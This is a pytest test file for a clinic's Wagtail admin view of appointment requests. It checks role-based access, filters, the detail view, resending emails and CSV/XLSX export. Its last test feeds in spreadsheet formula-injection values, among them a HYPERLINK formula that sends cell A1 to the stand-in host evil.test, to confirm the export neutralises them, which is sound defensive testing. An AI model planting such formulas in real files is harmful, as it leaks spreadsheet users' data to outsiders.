"""Appointment requests in the Wagtail admin: who sees them, list, filters, detail, status, resend, export."""

import csv
import io
import re
from datetime import UTC, datetime, timedelta

import pytest
from django.contrib.auth.models import Group, Permission
from django.test import Client
from django.utils import timezone

from contact.models import AppointmentRequest
from site_core.editorial import governance
from tests.conftest import verify_second_factor

INDEX = "/admin/snippets/contact/appointmentrequest/"


def make_request(**fields):
    values = {
        "first_name": "Ana",
        "last_name": "Lopez",
        "email": "ana@example.com",
        "phone": "(323) 886-2273",
        "contact_method": "phone",
        "patient_kind": "new",
        "consented_at": timezone.now(),
        "message": "private words",
    }
    values.update(fields)
    return AppointmentRequest.objects.create(**values)


def user_with(django_user_model, username, *codenames):
    user = django_user_model.objects.create_user(username, f"{username}@example.com", "a-long-test-password-1")
    group = Group.objects.create(name=f"group {username}")
    perms = [Permission.objects.get(content_type__app_label="wagtailadmin", codename="access_admin")]
    perms += [Permission.objects.get(content_type__app_label="contact", codename=c) for c in codenames]
    group.permissions.set(perms)
    user.groups.add(group)
    return user


def group_user(django_user_model, group_name):
    user = django_user_model.objects.create_user(
        group_name.replace(" ", "-"), f"{group_name.replace(' ', '-')}@example.com", "a-long-test-password-1"
    )
    user.groups.add(Group.objects.get(name=group_name))
    return user


def signed_in(client, user):
    client.force_login(user)
    verify_second_factor(client, user)
    return client


@pytest.fixture
def intake_client(client, django_user_model, demo):
    return signed_in(client, group_user(django_user_model, governance.INTAKE_STAFF))


def detail_url(request):
    return f"{INDEX}inspect/{request.pk}/"


def test_intake_staff_see_the_menu_and_the_list(demo, intake_client):
    request = make_request()
    make_request(first_name="Bot", is_spam=True)
    assert INDEX.encode() in intake_client.get("/admin/").content
    response = intake_client.get(INDEX)
    assert response.status_code == 200
    html = response.content.decode()
    assert "Ana Lopez" in html
    assert "Bot" not in html  # spam hidden by default
    assert "Bot" in intake_client.get(INDEX + "?is_spam=true").content.decode()
    assert f"{INDEX}resend/{request.pk}/" in html
    # The row's name opens the read-only detail view, never an edit form.
    assert f'href="{detail_url(request)}"' in html
    assert f"{INDEX}edit/" not in html


def test_the_list_has_the_columns_intake_works_with(demo, intake_client):
    make_request(service_title="Depression", contact_method="text")
    html = intake_client.get(INDEX).content.decode()
    table = html.split('<table class="listing', 1)[1].split("</thead>", 1)[0]
    headings = re.findall(r"<th[^>]*>(.*?)</th>", table, flags=re.S)
    labels = [" ".join(re.sub(r"<[^>]+>", " ", heading).split()) for heading in headings]
    assert [label for label in labels if label] == ["Received", "Name", "Service", "Contact by", "Status", "Emails"]
    assert "Depression" in html and "Text message" in html


def test_there_is_no_add_view_or_button(demo, intake_client, admin_client):
    for client in (intake_client, admin_client):
        assert client.get(INDEX + "add/").status_code == 404
        assert client.get(INDEX + "new/").status_code == 404
        html = client.get(INDEX).content.decode()
        assert "Add appointment request" not in html and f"{INDEX}new/" not in html


def test_intake_opens_a_request_and_reads_it_in_the_clinics_time_zone(demo, intake_client):
    # 17:30 UTC on 4 July is 10:30 in Los Angeles (daylight time); consent a minute earlier.
    received = datetime(2026, 7, 4, 17, 30, tzinfo=UTC)
    request = make_request(
        created_at=received,
        consented_at=received - timedelta(minutes=1),
        best_time="mornings",
        service_title="Depression",
        staff_sent_at=received + timedelta(minutes=1),
        staff_claimed_until=received + timedelta(minutes=5),
        ack_attempts=3,
        ack_last_error="SMTP 451 try later",
        ack_next_attempt_at=received + timedelta(minutes=8),
    )
    response = intake_client.get(detail_url(request))
    assert response.status_code == 200
    html = " ".join(response.content.decode().split())
    for shown in ["Ana Lopez", "ana@example.com", "(323) 886-2273", "Phone call", "mornings", "Depression"]:
        assert shown in html, shown
    assert "New patient" in html and "private words" in html and "English" in html
    assert "July 4, 2026, 10:30 a.m. PDT" in html  # received
    assert "July 4, 2026, 10:29 a.m. PDT" in html  # consent
    assert "Sent July 4, 2026, 10:31 a.m. PDT" in html  # the staff email
    assert "Not sent yet: 3 attempts failed; it is retried automatically" in html
    # No UTC, and none of the delivery worker's internals.
    assert "17:30" not in html and "5:30 p.m." not in html and "UTC" not in html
    for internal in ["claimed until", "next attempt", "Flagged as spam", "10:35", "10:38", "SMTP 451"]:
        assert internal not in html, internal


def test_the_detail_view_says_when_a_request_was_spam(demo, intake_client):
    request = make_request(is_spam=True)
    html = intake_client.get(detail_url(request)).content.decode()
    assert "looks like spam" in html and "Not sent: the request looks like spam" in html


def test_a_request_marked_for_a_check_says_why_and_that_it_was_delivered(demo, intake_client):
    marked = make_request(spam_check="sent 1 second after the form was shown")
    html = intake_client.get(detail_url(marked)).content.decode()
    assert "Check: possible spam (sent 1 second after the form was shown)" in html
    assert "It was delivered like any other request" in html and "no email was sent" not in html
    # Intake staff can list only the marked ones, or only the others; both stay in the plain list.
    make_request(first_name="Beatriz")
    listed = {
        value: intake_client.get(INDEX, {"spam_check": value}).content.decode() for value in ("true", "false", "")
    }
    assert "Ana" in listed["true"] and "Beatriz" not in listed["true"]
    assert "Beatriz" in listed["false"] and "Ana" not in listed["false"]
    assert "Ana" in listed[""] and "Beatriz" in listed[""]


def test_status_changes_on_the_detail_view(demo, intake_client):
    request = make_request()
    response = intake_client.post(detail_url(request), {"status": "scheduled"})
    assert response.status_code == 302 and response["Location"] == detail_url(request)
    request.refresh_from_db()
    assert request.status == "scheduled" and request.first_name == "Ana"
    assert "Scheduled" in intake_client.get(response["Location"]).content.decode()
    # The change is in the request's history, linked from its page.
    assert f"{INDEX}history/{request.pk}/" in intake_client.get(detail_url(request)).content.decode()
    history = intake_client.get(f"{INDEX}history/{request.pk}/")
    assert history.status_code == 200 and b"Edited" in history.content


def test_a_bad_status_is_refused_and_changes_nothing(demo, intake_client):
    request = make_request(status="contacted")
    response = intake_client.post(detail_url(request), {"status": "deleted"})
    assert response.status_code == 400
    assert b"Select a valid choice" in response.content
    request.refresh_from_db()
    assert request.status == "contacted"


def test_resend_sends_both_emails_again(demo, intake_client, smtp_server):
    request = make_request(staff_sent_at=timezone.now(), ack_sent_at=timezone.now())
    assert f"{INDEX}resend/{request.pk}/" in intake_client.get(detail_url(request)).content.decode()
    assert intake_client.get(f"{INDEX}resend/{request.pk}/").status_code == 200
    assert smtp_server.messages == []
    response = intake_client.post(f"{INDEX}resend/{request.pk}/")
    assert response.status_code == 302 and response["Location"] == detail_url(request)
    assert len(smtp_server.messages) == 2


def test_the_list_counts_what_arrived_since_your_last_visit(demo, intake_client, django_user_model):
    make_request(last_name="Earlier")
    make_request(last_name="Spam", is_spam=True)
    first = intake_client.get(INDEX).content.decode()
    assert 'data-new-since-visit="1"' in first and "Your first visit" in first
    second = intake_client.get(INDEX).content.decode()
    assert 'data-new-since-visit="0"' in second and "since your last visit" in second
    make_request(last_name="Newer")
    make_request(last_name="Newest")
    third = intake_client.get(INDEX).content.decode()
    assert 'data-new-since-visit="2"' in third
    # Refreshing the results (search, filters) or exporting is not a visit.
    make_request(last_name="Latest")
    intake_client.get(INDEX + "results/?q=Newer")
    export_body(intake_client.get(INDEX + "?export=csv"))
    assert 'data-new-since-visit="1"' in intake_client.get(INDEX).content.decode()
    # Each staff member has their own last visit: a colleague's first one counts every request.
    colleague = django_user_model.objects.create_user("colleague", "", "a-long-test-password-1")
    colleague.groups.add(Group.objects.get(name=governance.INTAKE_STAFF))
    other = signed_in(Client(), colleague)
    assert 'data-new-since-visit="4"' in other.get(INDEX).content.decode()


OTHER_ROLES = [governance.EDITORS, governance.MEDICAL_REVIEWERS, governance.PUBLISHERS, governance.ADMINISTRATORS]


@pytest.mark.parametrize("role", [*OTHER_ROLES, "plain staff"])
def test_every_other_role_is_refused_everywhere(demo, client, django_user_model, role):
    request = make_request()
    if role == "plain staff":
        user = user_with(django_user_model, "plain")
    else:
        user = group_user(django_user_model, role)
    signed_in(client, user)
    assert INDEX.encode() not in client.get("/admin/").content
    chooser = "/admin/snippets/choose/contact/appointmentrequest/"
    for url in [
        INDEX,
        INDEX + "results/",
        INDEX + "?q=Lopez",
        INDEX + "?export=csv",
        INDEX + "?export=xlsx",
        detail_url(request),
        f"{INDEX}history/{request.pk}/",
        f"{INDEX}history-results/{request.pk}/",
        f"{INDEX}delete/{request.pk}/",
        f"{INDEX}resend/{request.pk}/",
    ]:
        response = client.get(url)
        # Refused: 403, or Wagtail's "permission denied" redirect to the dashboard.
        assert response.status_code in (302, 403), (role, url)
        if response.status_code == 302:
            assert response["Location"] == "/admin/", (role, url)
        assert b"Lopez" not in response.content
    assert client.post(detail_url(request), {"status": "closed"}).status_code in (302, 403)
    assert client.post(f"{INDEX}resend/{request.pk}/").status_code in (302, 403)
    request.refresh_from_db()
    assert request.status == "new"
    # As reported: the snippet chooser answered every role with the patient's name. Requests have no chooser.
    bulk_delete = f"/admin/bulk/contact/appointmentrequest/delete/?id={request.pk}"
    for url in [chooser, chooser + "results/?p=1", f"{chooser}chosen/{request.pk}/", bulk_delete]:
        response = client.get(url)
        assert response.status_code == 404, (role, url)
        assert b"Lopez" not in response.content


def test_filters_and_search(demo, intake_client):
    make_request(last_name="Zebra", status=AppointmentRequest.CONTACTED, service_title="Depression")
    make_request(last_name="Fresh")
    html = intake_client.get(INDEX + "?status=contacted").content.decode()
    assert "Zebra" in html and "Fresh" not in html
    html = intake_client.get(INDEX + "?service_title=Depression").content.decode()
    assert "Zebra" in html and "Fresh" not in html
    today = timezone.localdate().isoformat()
    html = intake_client.get(INDEX + f"?created_at_from={today}").content.decode()
    assert "Zebra" in html and "Fresh" in html
    html = intake_client.get(INDEX + "?created_at_to=2000-01-01").content.decode()
    assert "Fresh" not in html
    html = intake_client.get(INDEX + "?q=fresh").content.decode()
    assert "Fresh" in html and "Zebra" not in html


def export_body(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export(demo, intake_client, fmt):
    make_request(last_name="Exported")
    make_request(last_name="Spammy", is_spam=True)
    response = intake_client.get(INDEX + f"?export={fmt}")
    assert response.status_code == 200
    assert "appointment-requests" in response["Content-Disposition"]
    body = export_body(response)
    if fmt == "csv":
        text = body.decode()
        assert "Exported" in text and "Spammy" not in text and "private words" not in text
    else:
        assert body[:2] == b"PK"  # a zip container: an .xlsx workbook


def test_csv_export_neutralises_formulas(demo, intake_client):
    # As reported: this name exported raw, and a spreadsheet would run it (and send cell A1 away).
    formula = '=HYPERLINK("http://evil.test/?x="&A1,"x")'
    make_request(first_name=formula, last_name="+1+1", best_time="-2+3", email="x@example.com")
    make_request(first_name="@SUM(A1)", last_name="\tTab", best_time="\rReturn")
    make_request(first_name="Plain", last_name="Name-Hyphen", best_time="after 5")
    rows = list(csv.DictReader(io.StringIO(export_body(intake_client.get(INDEX + "?export=csv")).decode())))
    by_first = {row["First name"]: row for row in rows}
    assert formula not in by_first
    row = by_first["'" + formula]
    assert row["Last name"] == "'+1+1" and row["Best time to reach"] == "'-2+3"
    row = by_first["'@SUM(A1)"]
    assert row["Last name"] == "'\tTab" and row["Best time to reach"] == "'\rReturn"
    row = by_first["Plain"]  # ordinary text is left alone
    assert row["Last name"] == "Name-Hyphen" and row["Best time to reach"] == "after 5"
    for row in rows:
        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values()), row
